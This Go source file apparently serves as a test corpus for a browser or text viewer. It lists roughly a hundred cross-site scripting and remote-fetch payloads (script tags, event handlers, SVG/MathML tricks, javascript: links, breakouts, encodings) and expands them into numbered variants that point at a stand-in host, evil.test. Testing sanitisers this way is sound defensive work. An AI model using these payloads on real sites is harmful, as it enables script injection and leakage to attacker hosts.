package browser

import (
	"fmt"
	"strings"
)

// attacks are what has run scripts, or fetched something, in viewers of stored text.
// "RUN" stands for a script, "NET" for an address elsewhere.
var attacks = []string{
	`<script>RUN</script>`, `<script src="NET"></script>`, `<SCRIPT>RUN</SCRIPT >`, `<script\x20type="text/javascript">RUN</script>`, `<scr<script>ipt>RUN</scr</script>ipt>`,
	`<img src=x onerror="RUN">`, `<img src="NET">`, `<img src=x onerror=RUN//`, `<img/src="x"/onerror=RUN>`, "<img src=`x`onerror=RUN>", `<img srcset="NET 1x">`,
	`<svg onload="RUN">`, `<svg><script>RUN</script></svg>`, `<svg><animate onbegin=RUN attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"></use></svg>`, `<svg><style><img src=x onerror=RUN></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">`, `<math href="javascript:RUN">x</math>`,
	`<body onload=RUN>`, `<iframe src="javascript:RUN"></iframe>`, `<iframe srcdoc="<script>parent.RUN</script>"></iframe>`, `<iframe src="NET"></iframe>`, `<object data="javascript:RUN"></object>`,
	`<object data="NET"></object>`, `<embed src="NET">`, `<link rel=stylesheet href="NET">`, `<link rel=prefetch href="NET">`, `<link rel=dns-prefetch href="NET">`, `<meta http-equiv=refresh content="0;url=NET">`,
	`<base href="NET/">`, `<form action="javascript:RUN"><input type=submit autofocus onfocus=RUN></form>`, `<input autofocus onfocus="RUN">`, `<select autofocus onfocus=RUN>`, `<textarea autofocus onfocus=RUN>`,
	`<details open ontoggle=RUN>`, `<video><source onerror="RUN"></video>`, `<video poster="NET"></video>`, `<audio src="NET" autoplay onerror=RUN></audio>`, `<marquee onstart=RUN>x</marquee>`,
	`<a href="javascript:RUN">x</a>`, `<a href="  java&#x0A;script:RUN">x</a>`, `<a href="data:text/html,<script>RUN</script>">x</a>`, `<a href="vbscript:RUN">x</a>`, `<a href="blob:NET">x</a>`,
	`<div style="background:url(NET)">x</div>`, `<style>@import "NET";</style>`, `<style>*{background:url(NET)}</style>`, `<div style="width:expression(RUN)">`, `<p style="animation:x" onanimationstart="RUN">`,
	`"><script>RUN</script>`, `'><img src=x onerror=RUN>`, `" onmouseover="RUN" autofocus onfocus="RUN" x="`, `' onfocus='RUN' autofocus x='`, "` onfocus=`RUN` autofocus", `</title><script>RUN</script>`,
	`</textarea><script>RUN</script>`, `</script><script>RUN</script>`, `</style><script>RUN</script>`, `--><script>RUN</script>`, `]]><script>RUN</script>`, `*/RUN/*`, `';RUN;//`, `";RUN;//`, "`;RUN;//", `\";RUN;//`, `</option></select><script>RUN</script>`,
	`[x](javascript:RUN)`, `![x](NET)`, `[x]: javascript:RUN "t"`, `<javascript:RUN>`, `[x](data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=)`, `[x](//evil.test/a)`, "```html\n<script>RUN</script>\n```", "`<script>RUN</script>`",
	`# <script>RUN</script>`, `* <img src=x onerror=RUN>`, `| <script>RUN</script> | x |`, `<!--<img src="--><img src=x onerror=RUN>">`, `&lt;script&gt;RUN&lt;/script&gt;`, `&#60;script&#62;RUN&#60;/script&#62;`, `\u003cscript\u003eRUN\u003c/script\u003e`, `%3Cscript%3ERUN%3C/script%3E`,
	`{{constructor.constructor('RUN')()}}`, `${RUN}`, `#{RUN}`, `<%= RUN %>`, `{{7*7}}`, `__proto__`, `<template><script>RUN</script></template>`, `<noscript><p title="</noscript><img src=x onerror=RUN>">`, `<xss id=x tabindex=1 onfocusin=RUN></xss>`, `<plaintext>`, `<xmp><img src=x onerror=RUN></xmp>`,
}

// payloads returns 200 and more texts that attack whoever shows them, each with its own
// number, by which it can be recognised.
func payloads() []string {
	wraps := []string{"%s", "{\"html\":\"%s\"}", "\x00%s\u202e", "data:image/svg+xml;base64,%s"}
	var all []string
	for i := 0; len(all) < 210 || i < len(attacks); i++ {
		text := strings.NewReplacer("RUN", fmt.Sprintf("window.pwned=%d", len(all)), "NET", fmt.Sprintf("http://evil.test/%d", len(all))).Replace(attacks[i%len(attacks)])
		all = append(all, fmt.Sprintf(wraps[(i/len(attacks))%len(wraps)], text))
	}
	return all
}
